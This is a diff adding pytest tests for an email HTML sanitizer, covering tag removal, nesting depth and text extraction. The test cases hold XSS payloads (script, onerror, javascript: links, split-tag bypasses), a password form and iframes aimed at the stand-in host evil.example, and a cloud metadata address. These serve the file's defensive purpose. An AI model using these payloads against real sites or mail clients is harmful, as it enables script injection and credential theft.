@@ -1,0 +1,79 @@
+"""Mail HTML made harmless."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from kept.channels.mail.markup import clean, nesting, to_text
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mi xlink:href='javascript:alert(1)'>",
+        "<a href='javascript:alert(1)'>x</a>",
+        "<a href=' java\nscript:alert(1)'>x</a>",
+        "<form action=//evil.example><input name=password></form>",
+        "<iframe src=//evil.example></iframe>",
+        "<base href=//evil.example><meta http-equiv=refresh content=0>",
+        "<style>body{background:url(//evil.example)}</style>",
+        "<p style='background:url(//evil.example)' id=main class=badge>x</p>",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    ],
+)
+def test_nothing_active_is_left(page: str) -> None:
+    cleaned = clean(page).lower()
+    for mark in (
+        "<script",
+        "onerror=",
+        "javascript:",
+        "<form",
+        "<input",
+        "<iframe",
+        "<base",
+        "<meta",
+        "style",
+        "id=",
+        "class=",
+    ):
+        assert mark not in cleaned.replace("&lt;", "")
+
+
+def test_a_remote_picture_is_not_fetched_and_an_attached_one_stays() -> None:
+    cleaned = clean('<img src="http://169.254.169.254/x" alt="far"><img src="cid:logo@alder" alt="near">')
+    assert "169.254" not in cleaned
+    assert 'src="cid:logo@alder"' in cleaned
+
+
+@given(st.text(alphabet="<>/abdivp!-=\"' &;sctr", max_size=200))
+def test_cleaning_twice_changes_nothing(page: str) -> None:
+    once = clean(page)
+    assert clean(once) == once
+
+
+def test_nesting_is_what_it_looks_like_in_tidy_pages() -> None:
+    assert nesting("<div><p>one</p><p>two</p><br><img></div><ul><li>a<li>b<li>c</ul>") == 2
+
+
+@pytest.mark.parametrize(
+    "piece", ["<div>", "<div></b>", "<b><i></b>", '<div><a title="</div>">', "<table><div></table>"]
+)
+def test_a_closing_tag_that_does_not_fit_hides_no_depth(piece: str) -> None:
+    assert nesting(piece * 200) >= 200
+
+
+def test_words_leave_a_page_without_its_scripts() -> None:
+    page = "<HTML><Head><title>T</title></head><STYLE>p{}</style><p>İ One<br>two</p><script>var a = '<p>no</p>'</script>&lt;ok&gt;"
+    assert to_text(page) == "İ One\ntwo\n<ok>"
+
+
+@given(st.text(alphabet="<>/abscriptle!-= &;#x0\n", max_size=300))
+def test_any_page_gives_words(page: str) -> None:
+    to_text(page)
+    nesting(page)
